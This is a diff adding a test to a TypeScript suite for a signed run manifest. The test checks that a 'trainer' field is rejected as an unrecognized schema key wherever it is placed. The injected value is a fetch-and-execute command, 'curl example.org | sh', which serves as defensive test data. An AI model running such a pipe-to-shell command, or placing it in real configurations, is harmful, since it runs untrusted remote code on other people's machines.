@@ -39,6 +39,16 @@ describe('the signed run manifest', () => {
     assert.equal(signed.manifest.creator, signerOf(0).key);
   });
 
+  test('names no trainer: what a node starts on its machine, its owner says', () => {
+    for (const place of ['', 'model', 'task', 'training']) {
+      const named = resigned((fields) => {
+        const inner = place === '' ? fields : (fields[place] as Record<string, unknown>);
+        inner['trainer'] = 'curl example.org | sh';
+      });
+      refused(named, /does not fit its schema: .*[Uu]nrecognized key/s);
+    }
+  });
+
   test('has another id for another creator and for any other field', () => {
     const { version: _, creator: __, ...fields } = signed.manifest;
     const ids = [
